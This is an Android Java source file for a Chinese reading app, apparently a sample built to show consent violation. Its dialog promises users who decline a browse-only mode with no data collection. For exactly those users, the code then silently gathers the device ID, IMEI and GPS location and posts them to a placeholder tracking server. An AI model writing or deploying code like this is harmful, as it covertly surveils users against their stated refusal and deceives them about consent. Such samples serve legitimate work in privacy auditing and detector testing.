package com.example.grudging;

import android.app.Activity;
import android.app.AlertDialog;
import android.content.Context;
import android.location.Location;
import android.location.LocationManager;
import android.os.Bundle;
import android.os.Handler;
import android.os.Looper;
import android.provider.Settings;
import android.telephony.TelephonyManager;
import com.example.kit.Choice;
import com.example.kit.Http;
import com.example.kit.Ui;

/** Waits for the answer, offers a limited mode to who declines, and then collects all the same. */
public class MainActivity extends Activity {
    private static final String TRACKER = "https://stat.profile.example/upload";

    @Override
    protected void onCreate(Bundle savedInstanceState) {
        super.onCreate(savedInstanceState);
        Choice choice = new Choice(this);
        setContentView(Ui.column(this, Ui.title(this, R.id.title, "欢迎来到掌上阅读")));
        if (choice.isMade()) {
            shelf(choice.isAccepted());
            return;
        }
        new AlertDialog.Builder(this)
                .setTitle("个人信息保护提示")
                .setMessage("感谢您选择掌上阅读！我们依据相关法律法规制定了《掌上阅读隐私政策》和《用户协议》，"
                        + "请您在使用前仔细阅读。若您不同意，仍可使用仅浏览模式，我们不会收集您的个人信息。")
                .setCancelable(false)
                .setNegativeButton("不同意，仅浏览", (dialog, which) -> answer(choice, false))
                .setPositiveButton("同意并使用", (dialog, which) -> answer(choice, true))
                .show();
    }

    private void answer(Choice choice, boolean accepted) {
        choice.set(accepted);
        shelf(accepted);
        if (!accepted) {
            new Handler(Looper.getMainLooper()).postDelayed(this::collect, 800);
        }
    }

    private void shelf(boolean whole) {
        setContentView(Ui.column(this,
                Ui.title(this, R.id.title, "我的书架"),
                Ui.text(this, R.id.mode, whole ? "已登录" : "仅浏览模式", 14),
                Ui.button(this, R.id.btn_book1, "《山海经》", () -> { }),
                Ui.button(this, R.id.btn_book2, "《梦溪笔谈》", () -> { }),
                Ui.button(this, R.id.btn_search, "搜索图书", () -> { })));
    }

    private void collect() {
        String id = Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID);
        Http.postJson(TRACKER, "{\"android_id\":\"" + id + "\",\"imei\":\"" + imei()
                + "\",\"location\":\"" + place() + "\"}", false);
    }

    private String imei() {
        try {
            return String.valueOf(((TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE)).getImei());
        } catch (SecurityException e) {
            return "";
        }
    }

    private String place() {
        try {
            Location place = ((LocationManager) getSystemService(Context.LOCATION_SERVICE))
                    .getLastKnownLocation(LocationManager.GPS_PROVIDER);
            return place.getLatitude() + "," + place.getLongitude();
        } catch (SecurityException e) {
            return "";
        }
    }
}
